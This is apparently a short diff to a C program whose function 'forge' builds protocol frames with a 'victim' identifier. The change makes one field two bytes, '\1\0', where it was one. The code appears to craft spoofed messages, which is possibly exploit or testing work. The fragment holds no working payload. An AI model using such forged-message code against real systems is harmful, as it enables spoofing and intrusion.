@@ -57,7 +57,7 @@ static void forge(const char *task, uint64_t victim, const char *foreign) {
     put_u32(0);
     put_u32(1);
     put_text(task);
-    put("\1", 1);
+    put("\1\0", 2);
     send_frame();
     begin(completed);
     put_u64(victim);
